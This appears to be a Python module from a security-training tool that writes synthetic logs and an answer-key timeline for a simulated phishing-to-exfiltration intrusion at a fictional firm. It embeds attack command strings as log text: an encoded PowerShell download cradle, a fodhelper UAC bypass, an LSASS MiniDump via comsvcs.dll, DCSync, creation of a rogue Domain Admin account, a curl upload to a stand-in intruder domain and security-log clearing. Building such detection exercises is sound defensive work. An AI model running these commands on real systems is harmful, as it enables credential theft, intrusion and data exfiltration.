"""The incident: one morning's mail lure to a night's exfiltration, told with the verbs of the scene.

Everything is inert. Commands are log text and run nowhere; the encoded script decodes to a request
for a reserved domain that cannot exist; the mail is marked as a simulation. What the records hold is
what real systems write when such things happen, nothing that makes them happen.

The cast, chosen from the company of the seed: ``victim`` opens the lure on their workstation;
``helper`` is a helpdesk account that was logged on there and is stolen from memory; ``admin`` is a
domain administrator whose hash is replicated out of the directory; ``engineer`` owns the password
found in a note on the file server; ``svc-printq`` is the account the intruder makes.
"""

from __future__ import annotations

from contextlib import AbstractContextManager
from dataclasses import dataclass

from vedette.demo.clock import DAY, HOUR, MINUTE, SECOND
from vedette.demo.company import NETBIOS, Account, CloudUser, Host, Person, Process, Session
from vedette.demo.everyday import deliver
from vedette.demo.formats import windows_events as ev
from vedette.demo.formats.identity import WEB_APPS
from vedette.demo.mail import LURE_DOMAIN, LURE_HOST, LURE_SENDER, Message
from vedette.demo.routines import DOMAIN_OBJECT, POWERSHELL, Routines, encoded, ssh_session
from vedette.demo.scene import SYSTEM32, Scene
from vedette.demo.truth import Step, Truth, marking
from vedette.errors import InternalError

C2_IP = "203.0.113.66"
MAIL_IP = "203.0.113.65"
CLOUD_IP = "203.0.113.77"
STAGE = f"http://cdn.{LURE_DOMAIN}/track.txt"
SCRIPT = f"$t = (New-Object Net.WebClient).DownloadString('{STAGE}'); Write-Output $t"
"""What the encoded command decodes to: it would print a text from a domain that is reserved."""
DOCUMENT = "Freight_Refund_Q1.docm"
_EXPORTS = "alderfinch-customer-exports"
_CLI = "aws-cli/1.22.34 Python/3.10.12 Linux/5.15.0-91-generic botocore/1.23.34"


@dataclass(slots=True)
class Cast:
    """Who and what the incident happens to."""

    victim: Person
    others: list[Person]
    helper: Account
    admin: Account
    engineer: Person
    created: Account


def choose_cast(scene: Scene, routines: Routines) -> Cast:
    """Pick the cast and make sure that their days go as the story needs."""
    company, rng = scene.company, scene.rng
    finance = [p for p in company.people if p.department in ("Finance", "HR")]
    victim = finance[int(rng.random() * 10)]
    others = [p for p in finance if p is not victim][:5]
    helper, admin = company.helpdesk[1], company.domain_admins[1]
    engineer = company.engineers[int(rng.random() * len(company.engineers))]
    name = "svc-printq"
    sid = f"{company.domain_sid}-1611"
    created = Account(
        name, sid, "Print queue service", "Service", f"CN={name},CN=Users,DC=corp,DC=alderfinch,DC=example"
    )
    staff = [a.person for a in (helper, admin) if a.person is not None]
    victim.starts_at, victim.leaves_at = 8.1, 17.6
    for person in staff:
        person.starts_at, person.leaves_at = 8.0, 17.2
    for person in (victim, *staff, engineer):
        routines.reserved.add(person.account.name)
    return Cast(victim, others, helper, admin, engineer, created)


class Incident:
    """Writes the incident into the scene and its truth beside it."""

    def __init__(self, scene: Scene, truth: Truth, cast: Cast, day: int) -> None:
        self.scene = scene
        self.truth = truth
        self.cast = cast
        self.day = day
        self.starts_at = day + 9 * HOUR + 38 * MINUTE
        self.messages: list[Message] = []
        self._n = 0

    def at(self, hour: int, minute: int, second: int = 0) -> int:
        """Return a time of the incident's first day (hours past 24 lie on the next)."""
        return self.day + hour * HOUR + minute * MINUTE + second * SECOND + int(self.scene.rng.random() * 900_000)

    def step(self, t: int, what: str, techniques: str, host: Host | None, account: str | None,
             marker: str | None = None) -> AbstractContextManager[Step]:  # fmt: skip
        """Open a step of the truth: records emitted inside belong to it."""
        self._n += 1
        step = Step(
            f"S{self._n:02d}", t, what, tuple(techniques.split()), None if host is None else host.name, account, marker
        )
        self.truth.steps.append(step)
        return marking(self.scene.sink, step)

    def happen(self) -> None:
        """Emit the whole incident; called when its first moment is reached and the victim is at work."""
        cast, scene = self.cast, self.scene
        ws = cast.victim.workstation
        desk = scene.sessions.get(ws.name)
        if desk is None:
            raise InternalError("the victim is not at work when the incident begins")
        # The victim goes home without logging off: their session, and what runs in it, lives on.
        desk.ends_at = self.at(22, 40)
        self._lure()
        implant = self._open_document(ws, desk)
        self._discover(ws, desk, implant)
        self._helper_visits(ws)
        elevated = self._dump_memory(ws, desk, implant)
        foothold = self._file_server(ws, desk, elevated)
        self._replicate_directory(ws, elevated)
        self._domain_controller(foothold)
        night, tool = self._collect(ws, elevated)
        self._linux(ws)
        self._cloud()
        self._exfiltrate(night, tool)
        self._cover_tracks(ws, desk, elevated, night, tool)
        self._tell()

    # --- first day, morning --------------------------------------------------------------------

    def _lure(self) -> None:
        s, t = self.scene, self.at(9, 38)
        recipients = [self.cast.victim, *self.cast.others]
        with self.step(t, "A mail lure with a macro document reached six people in Finance and HR", "T1566.001",
                       s.company.host("mx01"), None, LURE_SENDER):  # fmt: skip
            for i, person in enumerate(recipients):
                message_id = f"refund-{i + 1:02d}@{LURE_HOST}"
                deliver(s, t + i * 3 * SECOND, LURE_SENDER, person.account.upn, LURE_HOST, MAIL_IP, 84_312, message_id)
                self.messages.append(Message(t + i * 3 * SECOND, LURE_SENDER, person, message_id, DOCUMENT))

    def _open_document(self, ws: Host, desk: Session) -> Process:
        s, t, who = self.scene, self.at(9, 52), self.cast.victim.account
        office = "C:\\Program Files\\Microsoft Office\\root\\Office16\\"
        path = f"C:\\Users\\{who.name}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\7QK2XN4B\\{DOCUMENT}"
        with self.step(
            t, "The victim opened the document from the mail client", "T1204.002", ws, who.qualified, DOCUMENT
        ):
            outlook = s.start(
                ws, t - 20 * SECOND, f"{office}OUTLOOK.EXE", f'"{office}OUTLOOK.EXE"', desk.desktop, desk, terminal=1
            )
            s.create_file(ws, t, outlook, path)
            word = s.start(
                ws,
                t + SECOND,
                f"{office}WINWORD.EXE",
                f'"{office}WINWORD.EXE" /n "{path}" /o ""',
                outlook,
                desk,
                terminal=1,
            )
        t += 21 * SECOND
        command = f'"{POWERSHELL}" -NoP -NonI -W Hidden -Exec Bypass -Enc {encoded(SCRIPT)}'
        with self.step(t, "Word started a hidden PowerShell with an encoded command", "T1059.001 T1027.010 T1564.003", ws,
                       who.qualified, encoded(SCRIPT)[:48]):  # fmt: skip
            implant = s.start(
                ws, t, POWERSHELL, command, word, desk, folder=f"C:\\Users\\{who.name}\\Documents\\", terminal=1
            )
            s.script(ws, t + 2 * SECOND, SCRIPT, who.sid)
        t += 4 * SECOND
        with self.step(
            t, "The script fetched its text from the intruder's web server", "T1105 T1071.001", ws, who.qualified, STAGE
        ):
            s.resolve(ws, t, implant, f"cdn.{LURE_DOMAIN}", C2_IP)
            ids = s.connect(ws, t + 60_000, implant, C2_IP, 80, service="http", seconds=0.8, sent=310, received=48_200)
            s.zeek.http(
                t + 120_000, ids, "GET", f"cdn.{LURE_DOMAIN}", "/track.txt", "-", 200, 47_811, mime="text/plain"
            )
            port = int(ids.split("\t")[2])
            s.web.alert(
                t + 300_000,
                (C2_IP, 80),
                (ws.ip, port),
                2027117,
                "ET HUNTING Base64 Text Over HTTP To Office Child Process",
                "Potentially Bad Traffic",
                2,
            )
        t += 30 * SECOND
        key = f"HKU\\{who.sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\FreightHelper"
        with self.step(
            t, "A Run key was set so that the script starts at logon", "T1547.001", ws, who.qualified, "FreightHelper"
        ):
            s.set_value(ws, t, implant, key, f"{POWERSHELL} -W Hidden -Enc {encoded(SCRIPT)}")
        with self.step(t + MINUTE, "The script called home every five minutes or so until the evening", "T1071.001 T1573", ws,
                       who.qualified, C2_IP):  # fmt: skip
            at = t + MINUTE
            while at < self.at(21, 30):
                ids = s.connect(ws, at, implant, C2_IP, 443, service="ssl", seconds=0.7, sent=1180, received=860)
                s.zeek.ssl(at + 30_000, ids, f"cdn.{LURE_DOMAIN}")
                at += int((285 + s.rng.random() * 30) * SECOND)
        return implant

    def _discover(self, ws: Host, desk: Session, implant: Process) -> None:
        s, t, who = self.scene, self.at(10, 5), self.cast.victim.account
        dc = s.dcs[0]
        with self.step(t, "Account, group, host and domain discovery", "T1033 T1087.002 T1069.002 T1082 T1482 T1018", ws,
                       who.qualified, "nltest /dclist"):  # fmt: skip
            cmd = s.start(ws, t, f"{SYSTEM32}cmd.exe", f'"{SYSTEM32}cmd.exe"', implant, desk, terminal=1)
            plan = (
                ("whoami.exe", "whoami /all"),
                ("systeminfo.exe", "systeminfo"),
                ("net.exe", 'net group "Domain Admins" /domain'),
                ("nltest.exe", "nltest /dclist:corp.alderfinch.example"),
                ("nltest.exe", "nltest /domain_trusts"),
                ("net.exe", "net view /domain:ALDERFINCH"),
                ("net.exe", "net localgroup administrators"),
            )
            for i, (image, command) in enumerate(plan):
                at = t + (14 + 23 * i) * SECOND
                child = s.start(ws, at, SYSTEM32 + image, command, cmd, desk, terminal=1)
                if image == "net.exe" and "/domain" in command:
                    s.start(
                        ws,
                        at + 60_000,
                        f"{SYSTEM32}net1.exe",
                        command.replace("net ", "net1 ", 1),
                        child,
                        desk,
                        terminal=1,
                    )
                    ids = s.connect(ws, at + 90_000, None, dc.ip, 445, service="gssapi,smb,dce_rpc", seconds=1.0)
                    s.zeek.rpc(at + 120_000, ids, "\\pipe\\lsass", "samr", "SamrGetMembersInGroup")
                s.end(ws, at + SECOND, child)

    def _helper_visits(self, ws: Host) -> None:
        """Benign, and the reason why the helper's credentials lay in the workstation's memory."""
        s, t, helper = self.scene, self.at(10, 31), self.cast.helper
        source = s.company.host("MGMT01") if helper.person is None else helper.person.workstation
        port = s.port()
        s.zeek.conn(
            t - SECOND, (source.ip, port), (ws.ip, 3389), service="ssl", seconds=1100.0, sent=80_000, received=1_900_000
        )
        session = s.logon(ws, t, helper, 10, source, port=port, service="TERMSRV")
        s.begin_desktop(session, t + SECOND)
        s.start(
            ws,
            t + 50 * SECOND,
            f"{SYSTEM32}mmc.exe",
            f'"{SYSTEM32}mmc.exe" {SYSTEM32}printmanagement.msc',
            session.desktop,
            session,
            level="High",
            terminal=2,
        )
        s.logoff(session, t + 45 * MINUTE)

    def _dump_memory(self, ws: Host, desk: Session, implant: Process) -> Process:
        s, t, who = self.scene, self.at(10, 44), self.cast.victim.account
        lsass = ws.services["lsass"]
        with self.step(
            t, "User account control was bypassed through fodhelper", "T1548.002", ws, who.qualified, "ms-settings"
        ):
            key = f"HKU\\{who.sid}_Classes\\ms-settings\\shell\\open\\command\\"
            s.set_value(ws, t, implant, key + "DelegateExecute", "(Empty)")
            s.set_value(ws, t + 90_000, implant, key + "(Default)", f"{POWERSHELL} -NoP -W Hidden")
            fod = s.start(
                ws,
                t + SECOND,
                f"{SYSTEM32}fodhelper.exe",
                f'"{SYSTEM32}fodhelper.exe"',
                implant,
                desk,
                level="High",
                terminal=1,
            )
            elevated = s.start(
                ws, t + 2 * SECOND, POWERSHELL, f"{POWERSHELL} -NoP -W Hidden", fod, desk, level="High", terminal=1
            )
        t = self.at(10, 46)
        dump = "C:\\Users\\Public\\Documents\\spool.dmp"
        rundll, dll = f"{SYSTEM32}rundll32.exe", f"{SYSTEM32}comsvcs.dll"
        trace = f"C:\\Windows\\SYSTEM32\\ntdll.dll+9c534|C:\\Windows\\System32\\KERNELBASE.dll+2b8ce|{SYSTEM32}dbgcore.DLL+6e36|{dll}+2b2d8|UNKNOWN(0000000000000000)"
        with self.step(
            t, "LSASS memory was dumped with rundll32 and comsvcs.dll", "T1003.001 T1218.011", ws, who.qualified, dump
        ):
            text = f"rundll32.exe {dll}, MiniDump (Get-Process lsass).Id {dump} full"
            s.script(ws, t - SECOND, text, who.sid)
            proc = s.start(
                ws,
                t,
                rundll,
                f'"{rundll}" {dll} MiniDump {lsass.pid} {dump} full',
                elevated,
                desk,
                level="High",
                terminal=1,
            )
            s.windows.write(ws, t + 100_000, ev.K7, ev.sysmon_7(ws, t + 100_000, proc, f"{SYSTEM32}dbgcore.dll"))
            handle = 0x5E8
            target = "\\Device\\HarddiskVolume2\\Windows\\System32\\lsass.exe"
            s.windows.write(
                ws,
                t + 140_000,
                ev.K4656,
                ev.handle_4656(ws, who, desk.logon_id, proc, target, 0x1FFFFF, handle, opened=True),
            )
            s.access(ws, t + 141_000, proc, lsass, 0x1FFFFF, trace)
            s.windows.write(
                ws,
                t + 150_000,
                ev.K4663,
                ev.handle_4656(ws, who, desk.logon_id, proc, target, 0x10, handle, opened=False),
            )
            s.create_file(ws, t + 200_000, proc, dump)
            s.end(ws, t + 900_000, proc)
        return elevated

    # --- moving --------------------------------------------------------------------------------

    def _file_server(self, ws: Host, desk: Session, elevated: Process) -> Process:
        s, cast, t = self.scene, self.cast, self.at(11, 20)
        fs, victim, helper = s.company.host("FS01"), cast.victim.account, cast.helper
        with self.step(t, "The stolen helpdesk account opened shares on the file server from the victim's workstation",
                       "T1078.002 T1021.002 T1550.002", fs, helper.qualified, "ADMIN$"):  # fmt: skip
            s.windows.write(
                ws, t - SECOND, ev.K4648, ev.explicit_4648(ws, victim, desk.logon_id, helper, fs.fqdn, "cifs", elevated)
            )
            session, ids, source = s.smb(ws, fs, t, helper, ntlm=True, seconds=2400.0, proc=elevated)
            s.open_share(session, t + 20_000, "ADMIN$", "C:\\Windows", source)
            s.open_share(session, t + SECOND, "IT", "D:\\Shares\\IT", source)
        t += 3 * MINUTE
        with self.step(
            t,
            "A note with a Linux password was read on the IT share",
            "T1552.001 T1039",
            fs,
            helper.qualified,
            "deploy01-access.txt",
        ):
            for i, name in enumerate(("runbooks\\index.md", "inventory\\servers.xlsx", "notes\\deploy01-access.txt")):
                s.open_share_file(
                    session, t + i * 7 * SECOND, "IT", "D:\\Shares\\IT", source, name, ids, 2_411 + 900 * i
                )
        t = self.at(11, 35)
        task = "\\Microsoft\\Windows\\PrintQueue\\CacheTask"
        run = f"{SYSTEM32}cmd.exe"
        arguments = f"/c powershell -NoP -W Hidden -Enc {encoded(SCRIPT)}"
        with self.step(t, "A scheduled task was created on the file server from the workstation, run as SYSTEM, and deleted",
                       "T1053.005 T1021.002", fs, helper.qualified, task):  # fmt: skip
            command = f'schtasks /create /s {fs.name} /tn "{task}" /tr "cmd /c powershell -NoP -W Hidden -Enc {encoded(SCRIPT)}" /sc once /st 11:36 /ru SYSTEM /f'
            tool = s.start(ws, t - SECOND, f"{SYSTEM32}schtasks.exe", command, elevated, desk, level="High", terminal=1)
            rpc = s.connect(ws, t - 500_000, tool, fs.ip, 49669, service="dce_rpc", seconds=3.0)
            s.zeek.rpc(t, rpc, "49669", "ITaskSchedulerService", "SchRpcRegisterTask")
            s.windows.write(fs, t, ev.K4698, ev.task_4698(fs, t, helper, session.logon_id, task, run, arguments))
            s.windows.write(fs, t + 900, ev.K106, ev.registered_106(task, helper.qualified))
            shell = s.start(fs, t + 40 * SECOND, run, f"cmd {arguments}", fs.services["svchost"])
            implant = s.start(
                fs, t + 41 * SECOND, POWERSHELL, f"powershell -NoP -W Hidden -Enc {encoded(SCRIPT)}", shell
            )
            s.script(fs, t + 43 * SECOND, SCRIPT, "S-1-5-18")
            s.resolve(fs, t + 44 * SECOND, implant, f"cdn.{LURE_DOMAIN}", C2_IP)
            s.connect(fs, t + 45 * SECOND, implant, C2_IP, 443, service="ssl", seconds=3.0, sent=2100, received=51_000)
            s.windows.write(
                fs, t + 3 * MINUTE, ev.K4699, ev.task_4698(fs, t, helper, session.logon_id, task, run, arguments)
            )
        s.logoff(session, t + 25 * MINUTE)
        return implant

    def _replicate_directory(self, ws: Host, elevated: Process) -> None:
        s, helper, dc = self.scene, self.cast.helper, self.scene.dcs[0]
        t = self.at(13, 55)
        with self.step(t, "Secrets of krbtgt and of a domain administrator were replicated from the directory (DCSync)",
                       "T1003.006", dc, helper.qualified, ev.REPLICATION["get-all"]):  # fmt: skip
            port = s.port()
            ids = s.connect(
                ws,
                t - 200_000,
                elevated,
                dc.ip,
                49667,
                service="dce_rpc",
                seconds=6.0,
                sent=4200,
                received=31_000,
                source_port=port,
            )
            s.zeek.rpc(t - 150_000, ids, "49667", "drsuapi", "DRSBind")
            session = s.logon(dc, t - 100_000, helper, 3, ws, port=port, ntlm=True)
            for i, right in enumerate(("get", "get-all", "get", "get-all")):
                at = t + i * 400_000
                s.windows.write(
                    dc,
                    at,
                    ev.K4662,
                    ev.directory_4662(dc, helper, session.logon_id, ev.REPLICATION[right], DOMAIN_OBJECT),
                )
                if right == "get-all":
                    s.zeek.rpc(at + 4_000, ids, "49667", "drsuapi", "DRSGetNCChanges")
            s.logoff(session, t + 7 * SECOND)

    def _domain_controller(self, foothold: Process) -> None:
        s, cast, dc, fs = self.scene, self.cast, self.scene.dcs[0], self.scene.company.host("FS01")
        admin, created = cast.admin, cast.created
        t = self.at(18, 42)
        with self.step(t, "The administrator's hash was used to open a PowerShell remoting session on the domain controller",
                       "T1550.002 T1021.006 T1078.002", dc, admin.qualified, "wsmprovhost.exe"):  # fmt: skip
            ps = s.start(
                fs,
                t - 9 * SECOND,
                POWERSHELL,
                f"powershell -NoP -C Invoke-Command -ComputerName {dc.fqdn} -ScriptBlock {{ whoami }}",
                foothold,
            )
            port = s.port()
            s.connect(
                fs,
                t - SECOND,
                ps,
                dc.ip,
                5985,
                service="http",
                seconds=400.0,
                sent=31_000,
                received=42_000,
                source_port=port,
            )
            session = s.logon(dc, t, admin, 3, fs, port=port, ntlm=True)
            worker = s.start(
                dc,
                t + SECOND,
                f"{SYSTEM32}wsmprovhost.exe",
                f"{SYSTEM32}wsmprovhost.exe -Embedding",
                dc.services["dcom"],
                session,
                level="High",
            )
            s.script(dc, t + 2 * SECOND, "whoami", admin.sid)
            s.start(
                dc, t + 2 * SECOND, f"{SYSTEM32}whoami.exe", f'"{SYSTEM32}whoami.exe"', worker, session, level="High"
            )
        t += 90 * SECOND
        w = s.windows.write
        with self.step(t, f"The account {created.name} was created", "T1136.002", dc, admin.qualified, created.name):
            s.script(dc, t, f"net user {created.name} * /add /domain", admin.sid)
            s.start(
                dc,
                t + 100_000,
                f"{SYSTEM32}net.exe",
                f"net user {created.name} * /add /domain",
                worker,
                session,
                level="High",
            )
            w(dc, t + 400_000, ev.K4720, ev.created_4720(dc, created, admin, session.logon_id))
            w(dc, t + 400_700, ev.K4722, ev.account_4724(dc, created, admin, session.logon_id))
            w(dc, t + 400_900, ev.K4724, ev.account_4724(dc, created, admin, session.logon_id))
            w(dc, t + 401_300, ev.K4738, ev.changed_4738(dc, created, admin, session.logon_id))
        t += 40 * SECOND
        with self.step(t, f"{created.name} was added to Domain Admins", "T1098.007", dc, admin.qualified, created.name):
            s.start(
                dc,
                t,
                f"{SYSTEM32}net.exe",
                f'net group "Domain Admins" {created.name} /add /domain',
                worker,
                session,
                level="High",
            )
            w(
                dc,
                t + 300_000,
                ev.K4728,
                ev.member_4728(
                    dc, created, "Domain Admins", f"{s.company.domain_sid}-512", NETBIOS, admin, session.logon_id
                ),
            )
            s.end(dc, t + 2 * MINUTE, worker)
            s.logoff(session, t + 2 * MINUTE + SECOND)

    def _collect(self, ws: Host, elevated: Process) -> tuple[Session, Process]:
        s, created, fs = self.scene, self.cast.created, self.scene.company.host("FS01")
        t = self.at(19, 5)
        with self.step(t, "The new account logged on to the file server by remote desktop from the victim's workstation",
                       "T1021.001 T1078.002", fs, created.qualified, created.name):  # fmt: skip
            s.ticket(t - 2 * SECOND, created, ws.ip)
            port = s.port()
            s.connect(
                ws,
                t - SECOND,
                elevated,
                fs.ip,
                3389,
                service="ssl",
                seconds=9000.0,
                sent=700_000,
                received=9_000_000,
                source_port=port,
            )
            session = s.logon(fs, t, created, 10, ws, port=port, service="TERMSRV")
            s.windows.write(fs, t + 700, ev.K4672, ev.privileges_4672(fs, created, session.logon_id))
            s.begin_desktop(session, t + SECOND)
        t += 4 * MINUTE
        with self.step(
            t,
            "Finance and customer folders were packed into an archive",
            "T1560.001 T1005",
            fs,
            created.qualified,
            "C:\\PerfLogs\\queue.zip",
        ):
            text = "Compress-Archive -Path D:\\Shares\\Finance\\2026,D:\\Shares\\Sales\\Customers -DestinationPath C:\\PerfLogs\\queue.zip"
            ps = s.start(fs, t, POWERSHELL, f'"{POWERSHELL}"', session.desktop, session, level="High", terminal=2)
            s.script(fs, t + 9 * SECOND, text, created.sid)
            s.cmdlet(
                fs,
                t + 9 * SECOND + 90_000,
                session,
                f'"{POWERSHELL}"',
                "Compress-Archive",
                'CommandInvocation(Compress-Archive): "Compress-Archive"\r\n',
            )
            s.create_file(fs, t + 30 * SECOND, ps, "C:\\PerfLogs\\queue.zip")
        return session, ps

    # --- Linux and cloud -----------------------------------------------------------------------

    def _linux(self, ws: Host) -> None:
        s, host, engineer = self.scene, self.scene.company.host("deploy01"), self.cast.engineer
        user, uid = engineer.account.name, 2000 + s.company.people.index(engineer)
        t = self.at(19, 31)
        with self.step(t, "Passwords were tried on the deployment server: first the helpdesk account's, then the note's",
                       "T1110.001 T1021.004", host, user, f"Failed password for {user}"):  # fmt: skip
            port = s.port()
            s.linux.syslog(host, t, "sshd", 4411, f"Invalid user {self.cast.helper.name} from {ws.ip} port {port}")
            s.linux.syslog(
                host,
                t + 2 * SECOND,
                "sshd",
                4411,
                f"Failed password for invalid user {self.cast.helper.name} from {ws.ip} port {port} ssh2",
            )
            ids = s.zeek.conn(
                t - SECOND, (ws.ip, port), (host.ip, 22), service="ssh", seconds=6.0, sent=1900, received=2400
            )
            s.zeek.ssh(t, ids, False, 1, "SSH-2.0-OpenSSH_for_Windows_8.6")
        t += 40 * SECOND
        home, keys = f"/home/{user}", "/var/lib/runner/.aws/credentials"
        with self.step(t, f"{user} logged on with a password after three failures, and used sudo", "T1078.003 T1021.004 T1548.003",
                       host, user, f"Accepted password for {user} from {ws.ip}"):  # fmt: skip
            commands = (
                ["id"],
                ["uname", "-a"],
                ["cat", "/etc/passwd"],
                ["ls", "-la", "/var/lib/runner"],
                ["find", "/", "-name", "credentials", "-path", "*.aws*"],
            )
            ses = ssh_session(
                s,
                t,
                ws,
                host,
                user,
                uid,
                failures=3,
                key=False,
                commands=commands,
                sudo=f"/usr/bin/cat {keys}",
                minutes=9,
            )
        at = t + (3 * 8 + 12 + 15 * 5) * SECOND + 80_000
        with self.step(at, "The deployment key file was read with sudo", "T1552.001", host, user, keys):
            s.linux.opened(
                host,
                at,
                keys,
                "/usr/bin/cat",
                "cat",
                pid=5122,
                ppid=5121,
                auid=uid,
                uid=0,
                ses=ses,
                user=user,
                cwd=home,
                key="cloud-keys",
            )

    def _cloud(self) -> None:
        s, c, cloud = self.scene, self.scene.cloud, self.scene.company.cloud
        ci, role, export = cloud["ci-deploy"], cloud["DeployRole"], cloud["reporting-export"]
        who = c.user(ci)
        t = self.at(20, 14)
        host = None
        with self.step(t, "The deployment key was used from an outside address to look around", "T1078.004 T1526 T1087.004 T1580",
                       host, ci.name, CLOUD_IP):  # fmt: skip
            plan = (("sts", "GetCallerIdentity", ""), ("s3", "ListBuckets", ""), ("iam", "ListUsers", ""), ("iam", "ListRoles", ""),
                    ("iam", "ListAttachedUserPolicies", ""), ("secretsmanager", "ListSecrets", "AccessDenied"),
                    ("ec2", "DescribeInstances", ""), ("cloudtrail", "DescribeTrails", "AccessDenied"))  # fmt: skip
            for i, (service, call, error) in enumerate(plan):
                c.call(t + i * 11 * SECOND, who, f"{service}.amazonaws.com", call, CLOUD_IP, _CLI, error=error)
        t += 3 * MINUTE
        key, name = "ASIAQ7INTRUDEEXAMPLE", "upd-svc"
        with self.step(
            t,
            "The deployment role was assumed under a new session name",
            "T1550.001 T1078.004",
            host,
            f"assumed-role/DeployRole/{name}",
            name,
        ):
            c.call(
                t, who, "sts.amazonaws.com", "AssumeRole", CLOUD_IP, _CLI,
                request={"roleArn": role.arn, "roleSessionName": name, "durationSeconds": 43_200},
                response={"credentials": {"accessKeyId": key}, "assumedRoleUser": {"arn": f"arn:aws:sts::111122223333:assumed-role/DeployRole/{name}"}},
                resources=[{"accountId": "111122223333", "type": "AWS::IAM::Role", "ARN": role.arn}],
            )  # fmt: skip
            session = c.role(role, name, key, t)
            for i, (service, call) in enumerate(
                (("sts", "GetCallerIdentity"), ("iam", "ListAccessKeys"), ("s3", "GetBucketPolicy"))
            ):
                c.call(t + (9 + 8 * i) * SECOND, session, f"{service}.amazonaws.com", call, CLOUD_IP, _CLI)
        t += 2 * MINUTE
        fresh = "AKIAFRESHKEYXEXAMPLE"
        with self.step(
            t,
            "An access key was created for another user, reporting-export",
            "T1098.001",
            host,
            f"assumed-role/DeployRole/{name}",
            fresh,
        ):
            c.call(t, session, "iam.amazonaws.com", "CreateAccessKey", CLOUD_IP, _CLI, request={"userName": export.name},
                   response={"accessKey": {"userName": export.name, "accessKeyId": fresh, "status": "Active"}})  # fmt: skip
        t = self.at(20, 31)
        self._bulk(t, export, fresh, 240, "Customer exports were read in bulk with the new key")
        self._bulk(
            self.at(26, 11), export, fresh, 60, "The same key came back in the night for the rest of the exports"
        )

    def _bulk(self, t: int, user: CloudUser, key: str, n: int, what: str) -> None:
        s = self.scene
        who = s.cloud.user(user, key)
        with self.step(t, what, "T1530 T1619", None, user.name, key):
            s.cloud.call(
                t,
                who,
                "s3.amazonaws.com",
                "ListObjects",
                CLOUD_IP,
                _CLI,
                request={"bucketName": _EXPORTS, "prefix": "customers/"},
                data=True,
            )
            for i in range(n):
                size = 400_000 + (i * 7919) % 900_000
                s.cloud.get_object(
                    t + (4 + i * 3) * SECOND, who, CLOUD_IP, _CLI, _EXPORTS, f"customers/2026/part-{i:04d}.csv.gz", size
                )

    # --- night ---------------------------------------------------------------------------------

    def _exfiltrate(self, night: Session, tool: Process) -> None:
        s, fs, created = self.scene, self.scene.company.host("FS01"), self.cast.created
        t = self.at(21, 8)
        with self.step(
            t, "The archive was uploaded to the intruder's server", "T1048.002 T1041", fs, created.qualified, C2_IP
        ):
            curl = f"{SYSTEM32}curl.exe"
            proc = s.start(
                fs,
                t,
                curl,
                f"curl.exe -s -T C:\\PerfLogs\\queue.zip https://cdn.{LURE_DOMAIN}/u/",
                tool,
                night,
                level="High",
                terminal=2,
            )
            s.resolve(fs, t + 40_000, proc, f"cdn.{LURE_DOMAIN}", C2_IP)
            ids = s.connect(
                fs, t + 90_000, proc, C2_IP, 443, service="ssl", seconds=611.0, sent=498_233_104, received=91_200
            )
            s.zeek.ssl(t + 130_000, ids, f"cdn.{LURE_DOMAIN}")
            port = int(ids.split("\t")[2])
            s.web.tls(t + 140_000, (fs.ip, port), (C2_IP, 443), f"cdn.{LURE_DOMAIN}")
            s.web.flow(t + 612 * SECOND, (fs.ip, port), (C2_IP, 443), 498_233_104, 91_200)
            s.end(fs, t + 612 * SECOND, proc)

    def _cover_tracks(self, ws: Host, desk: Session, elevated: Process, night: Session, tool: Process) -> None:
        s, fs, created, victim = self.scene, self.scene.company.host("FS01"), self.cast.created, self.cast.victim
        wevtutil = f"{SYSTEM32}wevtutil.exe"
        t = self.at(21, 34)
        with self.step(
            t,
            "The security log of the file server was cleared",
            "T1070.001",
            fs,
            created.qualified,
            "wevtutil.exe cl Security",
        ):
            s.start(fs, t, wevtutil, "wevtutil.exe cl Security", tool, night, level="High", terminal=2)
            s.windows.write(fs, t + 300_000, ev.K1102, ev.cleared_1102(fs, created, night.logon_id))
        t = self.at(21, 39)
        with self.step(
            t,
            "The security log of the victim's workstation was cleared",
            "T1070.001",
            ws,
            victim.account.qualified,
            "wevtutil cl Security",
        ):
            s.start(ws, t, wevtutil, "wevtutil cl Security", elevated, desk, level="High", terminal=1)
            s.windows.write(ws, t + 300_000, ev.K1102, ev.cleared_1102(ws, victim.account, desk.logon_id))
        s.logoff(night, self.at(21, 41))
        t = self.at(22, 5)
        with self.step(t, "A sign-in to the victim's mailbox from the intruder's address was stopped by the second factor",
                       "T1078.004", None, victim.account.upn, CLOUD_IP):  # fmt: skip
            s.identity.sign_in(t, victim, CLOUD_IP, WEB_APPS[0], place="away", error=50074)

    def _tell(self) -> None:
        """Fill in the accounts and hosts of the truth."""
        cast, truth, company = self.cast, self.truth, self.scene.company
        truth.account(
            cast.victim.account.qualified,
            "compromised",
            "Opened the lure; their session ran the intruder's scripts, the memory dump and DCSync's connection",
            aliases=(cast.victim.account.upn,),
        )
        truth.account(
            cast.helper.qualified,
            "compromised",
            "Credentials stolen from the workstation's memory; used on FS01 and for DCSync",
            aliases=(cast.helper.upn,),
        )
        truth.account(
            cast.admin.qualified,
            "compromised",
            "Hash replicated by DCSync; used to create an account and change Domain Admins on DC01",
            aliases=(cast.admin.upn,),
        )
        truth.account(
            cast.created.qualified,
            "created",
            "Made by the intruder, added to Domain Admins, used for collection, upload and log clearing",
        )
        truth.account(
            cast.engineer.account.name,
            "compromised",
            "Password found in a note; used on deploy01 by SSH and sudo",
            aliases=(cast.engineer.account.qualified, cast.engineer.account.upn),
        )
        truth.account(
            "ci-deploy",
            "compromised",
            f"Key read on deploy01; used from {CLOUD_IP}",
            aliases=(company.cloud["ci-deploy"].arn,),
        )
        truth.account(
            "assumed-role/DeployRole/upd-svc",
            "attacker",
            "Session that the intruder opened with the key of ci-deploy; created a key for another user",
        )
        truth.account(
            "reporting-export",
            "compromised",
            "A key was created for it and used for the bulk reads",
            aliases=(company.cloud["reporting-export"].arn,),
        )
        truth.account(f"{NETBIOS}\\krbtgt", "targeted", "Its secret was replicated by DCSync")
        for person in cast.others:
            truth.account(
                person.account.qualified,
                "targeted",
                "Received the lure and did not open it",
                aliases=(person.account.upn,),
            )
        for name, why in (
            ("MSOL_4be81d0c93fa", "Replicates directory secrets by right, on the same controller"),
            ("svc_backup", "Reads the same shares every night"),
            ("cloud-admin", "Lists users and keys from the office every day"),
        ):
            truth.account(name if name == "cloud-admin" else f"{NETBIOS}\\{name}", "bystander", why)
        ws = cast.victim.workstation
        for host, role, why in (
            (ws, "entry", "The lure was opened here; everything on the network started from here"),
            (company.host("FS01"), "target", "Scheduled task, collection, upload, log clearing"),
            (company.host("DC01"), "target", "DCSync, new domain administrator"),
